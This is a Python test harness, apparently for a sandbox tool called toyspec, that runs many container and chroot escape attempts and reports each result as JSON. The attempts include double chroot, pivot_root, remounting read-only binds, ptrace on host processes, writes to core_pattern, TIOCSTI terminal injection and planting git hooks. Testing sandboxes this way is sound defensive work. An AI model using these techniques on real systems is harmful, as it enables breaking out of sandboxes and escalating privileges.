"""What runs inside a box and tries to get out: `attacker.py CONFIG`, in JSON.

Each attempt is a function of its name, in a process of its own. It gives what it reached, in words,
or raises the OSError that held it; both are printed as JSON. What it says is never believed
where the host can see for itself: `attempts.py` has the proofs. Nothing here is of toyspec, and
nothing but the standard library is needed. Values that are written into the kernel's files are those
that already stand there, so that even a success leaves the machine as it was.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

X86 = os.uname().machine == "x86_64"
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
CONFIG: dict[str, Any] = {}
SECONDS = 10  # of one attempt

NEWUSER, NEWNS, NEWPID = 0x10000000, 0x20000, 0x20000000
MS_RDONLY, MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND, MS_REC = 1, 2, 4, 32, 4096, 16384
MNT_DETACH = 2
AT_FDCWD, AT_EMPTY_PATH, OPEN_TREE_CLONE = -100, 0x1000, 1
OPEN_TREE, MOVE_MOUNT, MOUNT_SETATTR, PIDFD_OPEN, PIDFD_SIGNAL = 428, 429, 442, 434, 424
PIVOT_ROOT, KEYCTL = (155, 250) if X86 else (41, 219)
SYS_CHROOT, SYS_ADMIN = 18, 21
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def checked(result: int, what: str) -> int:
    """A C function's result; OSError with errno where it is -1."""
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), what)
    return result


def libc(name: str, *args: Any) -> int:
    ctypes.set_errno(0)
    return checked(int(getattr(LIBC, name)(*args)), name)


def syscall(name: str, number: int, *args: Any) -> int:
    ctypes.set_errno(0)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    return checked(int(LIBC.syscall(ctypes.c_long(number), *words)), name)


def mount(source: str | None, target: str, kind: str | None, flags: int, data: str = "") -> None:
    texts = (None if each is None else each.encode() for each in (source, target, kind))
    libc("mount", *texts, ctypes.c_ulong(flags), data.encode())


def held(number: int) -> bool:
    """Whether this process has a capability in effect, by its number."""
    return bool(capabilities("CapEff") >> number & 1)


def capabilities(name: str) -> int:
    with open("/proc/self/status", encoding="ascii") as file:
        (line,) = (line for line in file if line.startswith(name + ":"))
    return int(line.split()[1], 16)


def mighty(capability: int, flags: int = NEWNS) -> None:
    """Have `capability` and new namespaces: with it as it is, else in a user namespace of one's own."""
    libc("unshare", flags if held(capability) else NEWUSER | flags)


def secret(at: str) -> str:
    """The host's secret, read below a directory that may be the host's root, or anywhere above."""
    with open(at + CONFIG["outside"] + "/secret", encoding="ascii") as file:
        return file.read()


def first(*ways: Callable[[], str]) -> str:
    """What the first way that works gives; else the first way's error, if it is no broken attempt."""
    errors: list[OSError] = []
    for way in ways:
        try:
            return way()
        except OSError as error:
            errors.append(error)
    raise errors[0]


# Read-only binds


def every_way(top: str, *, directory: bool = True) -> str:
    """All calls that change a file, or a directory with a `file`; gives those that succeeded."""
    path = top + "/file" if directory else top
    done: list[str] = []

    def tried(name: str, way: Callable[[], object]) -> None:
        try:
            way()
        except OSError as error:
            if error.errno != errno.EROFS:
                done.append(f"{name}: {errno.errorcode.get(error.errno or 0)}, not EROFS")
            return
        done.append(name)

    def reopened() -> None:
        read = os.open(path, os.O_RDONLY)
        os.close(os.open(f"/proc/self/fd/{read}", os.O_WRONLY | os.O_TRUNC))

    tried("open", lambda: os.write(os.open(path, os.O_WRONLY), b"changed\n"))
    tried("append", lambda: os.write(os.open(path, os.O_WRONLY | os.O_APPEND), b"changed\n"))
    tried("reopen", reopened)
    tried("truncate", lambda: os.truncate(path, 1))
    tried("chmod", lambda: os.chmod(path, 0o600))
    tried("utime", lambda: os.utime(path, (1, 1)))
    tried("setxattr", lambda: os.setxattr(path, "user.changed", b"1"))
    if directory:
        tried("create", lambda: os.close(os.open(top + "/new", os.O_CREAT | os.O_WRONLY)))
        tried("temporary", lambda: os.close(os.open(top, os.O_TMPFILE | os.O_WRONLY)))
        tried("mkdir", lambda: os.mkdir(top + "/directory"))
        tried("symlink", lambda: os.symlink("file", top + "/link"))
        tried("fifo", lambda: os.mkfifo(top + "/fifo"))
        tried("link", lambda: os.link(path, top + "/second"))
        tried("rename", lambda: os.rename(path, top + "/renamed"))
        tried("unlink", lambda: os.unlink(top + "/other"))
    if not done:
        raise OSError(errno.EROFS, "every way")
    return " ".join(done)


def write_bind() -> str:
    return every_way("/ro")


def write_file_bind() -> str:
    return every_way("/alone", directory=False)


def write_inside_writable() -> str:
    return every_way("/rw/inner")


def plant_in_cache() -> str:
    """In toyspec's own directory, which a writable bind shows."""
    return every_way("/rw/cache/toyspec")


def plant_hook() -> str:
    return every_way("/rw/.git/hooks")


def replace_protected() -> str:
    """Others in the place of the directories that hold what is protected."""
    done = []
    for name in ("/rw/cache/toyspec", "/rw/cache", "/rw/.git/hooks", "/rw/.git"):
        try:
            os.rename(name, name + ".old")
            os.mkdir(name)
        except OSError as error:
            if error.errno not in (errno.EBUSY, errno.EROFS):
                done.append(
                    f"{name}: {errno.errorcode.get(error.errno or 0)}, neither EBUSY nor EROFS"
                )
            continue
        done.append(name)
    if not done:
        raise OSError(errno.EBUSY, "every one")
    return " ".join(done)


def write_outside() -> str:
    """Through a root that shows the host's own directories."""
    return every_way(CONFIG["outside"] + "/ro")


def write_root() -> str:
    return every_way("/.")


def write_lower() -> str:
    """Into an overlay: it lands in the upper directory, so that nothing of it may be outside."""
    for name, text in (("/file", "changed\n"), ("/new", "new\n")):
        with open(name, "w", encoding="ascii") as file:
            file.write(text)
    return "wrote"


def plant() -> str:
    """A file in each of toyspec's own directories, or in one made in its place."""
    done = []
    for place in (".local/share", ".local/state", "run"):
        for move in ("", place + "/toyspec", place, place.partition("/")[0]):
            try:
                if move:
                    os.rename(f"/victim/{move}", f"/victim/{move}.away")
                os.makedirs(f"/victim/{place}/toyspec", exist_ok=True)
                with open(f"/victim/{place}/toyspec/planted", "w", encoding="ascii"):
                    done.append(place)
                break
            except OSError:
                continue
    if not done:
        raise OSError(errno.EROFS, "every directory, and every name above it")
    return " ".join(done)


# Mounts from inside


def remount() -> str:
    mighty(SYS_ADMIN)

    def classic() -> str:
        mount(None, "/ro", None, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV)
        return "mount " + every_way("/ro")

    def modern() -> str:
        attr = (ctypes.c_uint64 * 4)(0, MS_RDONLY, 0, 0)
        syscall("mount_setattr", MOUNT_SETATTR, AT_FDCWD, b"/ro", 0, attr, 32)
        return "mount_setattr " + every_way("/ro")

    return first(classic, modern)


def unmount() -> str:
    """What a mount hides is there again once the mount is gone."""
    mighty(SYS_ADMIN)
    libc("umount2", b"/rw/inner", MNT_DETACH)
    with open("/rw/inner/secret", encoding="ascii") as file:
        return file.read()


def bind_again() -> str:
    """A bind without what is mounted below it shows what that hides."""
    mighty(SYS_ADMIN)

    def classic() -> str:
        mount("/rw", "/tmp", None, MS_BIND)
        with open("/tmp/inner/secret", encoding="ascii") as file:
            return file.read()

    def modern() -> str:
        tree = syscall("open_tree", OPEN_TREE, AT_FDCWD, b"/rw", OPEN_TREE_CLONE)
        with open(os.open("inner/secret", os.O_RDONLY, dir_fd=tree), encoding="ascii") as file:
            return file.read()

    return first(classic, modern)


# Devices and programs that give more than their user has


def zeros(path: str) -> str:
    fd = os.open(path, os.O_RDONLY)
    return "zeros" if os.read(fd, 4) == bytes(4) else "something else"


def make_device() -> str:
    def plainly() -> str:
        os.mknod("/tmp/zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        return zeros("/tmp/zero")

    def mightily() -> str:
        mighty(SYS_ADMIN)
        os.mkdir("/tmp/devices")
        mount("tmpfs", "/tmp/devices", "tmpfs", 0)
        os.mknod("/tmp/devices/zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        return zeros("/tmp/devices/zero")

    return first(plainly, mightily)


def bound_device() -> str:
    return zeros("/devices/zero")


def setuid_program() -> str:
    """A program that is setuid to another; gives whom it runs as, if that is somebody else."""
    with subprocess.Popen(
        [CONFIG["setuid"], "5"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as child:  # fmt: skip
        time.sleep(0.1)
        with open(f"/proc/{child.pid}/status", encoding="ascii") as file:
            (line,) = (line for line in file if line.startswith("Uid:"))
        child.kill()
    effective = int(line.split()[2])
    if effective == os.geteuid():
        raise OSError(errno.EPERM, "it runs as whoever started it")
    return f"effective uid {effective}"


def root_in_name() -> str:
    """uid 0 gets at an execve what the bounding set leaves."""
    found = capabilities("CapEff") | capabilities("CapPrm") | capabilities("CapBnd")
    if not found:
        raise OSError(errno.EPERM, "no capability")
    return f"{found:x}"


def new_user_namespace() -> str:
    libc("unshare", NEWUSER)
    return f"{capabilities('CapEff'):x}"


# Processes of the host


def signal_host() -> str:
    victim = CONFIG["victims"]["signal_host"]

    def by_descriptor() -> str:
        fd = syscall("pidfd_open", PIDFD_OPEN, victim, 0)
        syscall("pidfd_send_signal", PIDFD_SIGNAL, fd, int(signal.SIGUSR1), None, 0)
        return "sent by descriptor"

    def plainly() -> str:
        os.kill(victim, signal.SIGUSR1)
        return "sent"

    return first(plainly, by_descriptor)


def trace_host() -> str:
    """Attach, then let go with a signal that ends it."""
    victim = CONFIG["victims"]["trace_host"]
    LIBC.ptrace.restype = ctypes.c_long
    libc("ptrace", PTRACE_ATTACH, victim, None, None)
    os.waitpid(victim, 0x40000000)  # __WALL
    libc("ptrace", PTRACE_DETACH, victim, None, ctypes.c_void_p(signal.SIGUSR2))
    return "attached"


def root_of_others() -> str:
    """/proc/PID/root and cwd of every process in sight."""
    pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    tops = [f"/proc/{pid}/{link}" for pid in pids for link in ("root", "cwd/../../../../..")]
    return first(*(lambda top=top: secret(top) for top in tops))


# The root


def above() -> str:
    """Every way upward from the root."""
    ups = ("/..", "/../../..", "/proc/1/root/..", "/proc/self/root/..", "/proc/self/cwd/../../..")

    def held_open() -> str:
        os.chdir("/")
        os.fchdir(os.open("..", os.O_PATH | os.O_DIRECTORY))
        return secret(".") if os.getcwd() else ""

    return first(*(lambda up=up: secret(up) for up in ups), held_open)


def double_chroot() -> str:
    """A root further down, and a directory above it held open: `..` passes the root by."""
    mighty(SYS_CHROOT, 0x200)  # CLONE_FS, a namespace of no consequence
    top = os.open("/", os.O_PATH)
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    os.fchdir(top)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return secret("")


def pivot_out() -> str:
    """A root of one's own, and the former one below it, with all that is stacked there."""
    mighty(SYS_ADMIN)
    mount("tmpfs", "/tmp", "tmpfs", 0)
    os.mkdir("/tmp/old")
    syscall("pivot_root", PIVOT_ROOT, b"/tmp", b"/tmp/old")
    os.chdir("/")
    return first(
        *(lambda up=up: secret(up) for up in ("/old", "/old/..", "/..", "/old/proc/1/root/..")),
        lambda: (libc("umount2", b"/old", MNT_DETACH), secret("/old"))[1],
    )


# The kernel's files


def same(path: str) -> str:
    """Write what already stands in it."""
    with open(path, encoding="ascii") as file:
        text = file.read()
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, text.encode())
    return "written"


def core_pattern() -> str:
    """A program that the host's kernel starts, as root, outside of every box."""
    return same("/proc/sys/kernel/core_pattern")


def proc_sys() -> str:
    return first(
        *(lambda p=p: same(f"/proc/sys/{p}") for p in ("vm/swappiness", "kernel/modprobe"))
    )


def proc_irq() -> str:
    return same("/proc/irq/default_smp_affinity")


def sysrq_trigger() -> str:
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))  # nothing is written
    return "opened"


def another_proc() -> str:
    """A proc of one's own, without what is mounted over this one."""
    mighty(SYS_ADMIN, NEWNS | NEWPID)
    child = os.fork()
    if child == 0:
        try:
            mount("proc", "/tmp", "proc", 0)
            same("/tmp/sys/kernel/core_pattern")
        except OSError as error:
            os._exit(error.errno or 255)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))
    return "written"


# What a process inherits, and what is shared


def session_keyring() -> str:
    return f"key {syscall('keyctl', KEYCTL, 10, -3, b'user', b'toyspec-escape', 0)}"


def abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect("\0" + CONFIG["abstract"])
    return "connected"


def file_socket() -> str:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(CONFIG["outside"] + "/socket")
    return "connected"


def loopback() -> str:
    with socket.socket(socket.AF_INET) as made:
        made.settimeout(2)
        made.connect(("127.0.0.1", CONFIG["port"]))
    return "connected"


def shared_memory() -> str:
    LIBC.shmat.restype = ctypes.c_void_p
    LIBC.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    ctypes.set_errno(0)
    address = LIBC.shmat(CONFIG["shm"], None, 0o10000)  # SHM_RDONLY
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address).decode()


def leaked_descriptor() -> str:
    """The launcher holds the outside directory open; so may whatever else."""

    def at(fd: int) -> str:
        with open(os.open("secret", os.O_RDONLY, dir_fd=fd), encoding="ascii") as file:
            return file.read()

    fds = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
    return first(*(lambda fd=fd: at(fd) for fd in fds))


def push_input() -> str:
    """Type on the caller's terminal: TIOCSTI, also with bits set that the kernel does not look at."""
    LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]

    def typed(fd: int, number: int) -> str:
        for character in b"pushed\n":
            libc("ioctl", fd, number, bytes([character]))
        return "typed"

    def own(number: int) -> str:
        return typed(os.open("/dev/tty", os.O_RDWR), number)

    numbers = (0x5412, 0x5412 | 1 << 32)
    return first(
        *(lambda fd=fd, n=n: typed(fd, n) for fd in (0, 1, 2) for n in numbers),
        *(lambda n=n: own(n) for n in numbers),
    )


def working_directory() -> str:
    """Where init starts, and what is above it, by the host's rules."""
    return secret("./../../../../../../..")


def run(name: str) -> dict[str, str]:
    """One attempt in a process of its own; `got`, or `held` with the errno, or `broke`."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        signal.alarm(SECONDS)
        try:
            found = {"got": globals()[name]()}
        except OSError as error:
            code = errno.errorcode.get(error.errno or 0, str(error.errno))
            found = {"held": f"{code}: {error}"}
        except BaseException as error:  # noqa: BLE001
            found = {"broke": repr(error)}
        os.write(write, json.dumps(found).encode())
        os._exit(0)
    os.close(write)
    with open(read, encoding="utf-8") as pipe:
        text = pipe.read()
    _, status = os.waitpid(child, 0)
    return dict(json.loads(text)) if text else {"broke": f"ended with status {status}"}


if __name__ == "__main__":
    CONFIG |= json.loads(sys.argv[1])
    print("attempts " + json.dumps({name: run(name) for name in CONFIG["names"]}))
